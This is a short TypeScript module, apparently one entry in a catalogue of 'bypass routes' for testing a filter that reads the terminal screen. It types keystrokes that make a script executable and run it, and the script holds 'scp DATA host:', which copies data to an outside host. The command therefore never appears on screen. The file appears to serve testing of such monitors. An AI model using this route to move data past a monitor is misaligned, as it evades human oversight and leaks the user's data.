import type { BypassRoute } from '../route.ts';

export const route: BypassRoute = {
  kind: 'terminal',
  name: 'in an executable script',
  source: 'terminal routes past a filter that reads the screen',
  keys: ['chmod +x s.sh\r', './s.sh\r'],
  files: { 's.sh': '#!/bin/sh\nscp DATA host:\n' },
};
